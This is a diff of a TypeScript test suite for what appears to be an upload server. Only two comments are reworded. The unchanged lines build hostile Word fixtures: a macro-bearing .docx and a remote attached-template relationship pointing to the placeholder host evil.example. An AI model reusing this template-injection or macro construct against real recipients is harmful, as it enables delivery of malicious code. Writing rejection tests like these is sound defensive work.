@@ -114,7 +114,7 @@ const findWord = (parts: Parameters<typeof zip>[0]) =>
   zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
 const template = `<Relationship Target="https://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External"/>`;
 
-/** Files that somebody may send and nobody should open. */
+/** Files that someone may send and no one should open. */
 const hostileFiles: readonly (readonly [what: string, name: string, bytes: Uint8Array])[] = [
   ["a macro document", "brief.docx", findWord([{ name: "word/vbaProject.bin" }])],
   [
@@ -261,7 +261,7 @@ test("Q-30 a large part that is no field, in one piece, does not keep the form w
   expect(statusCode).toBe(400);
 });
 
-/** Says something to a port and listens until it is told no more. */
+/** Says something to a port and listens until the other side ends. */
 function sendRaw(port: number, pieces: readonly (string | Buffer)[]): Promise<string> {
   return new Promise((resolve, reject) => {
     let received = "";
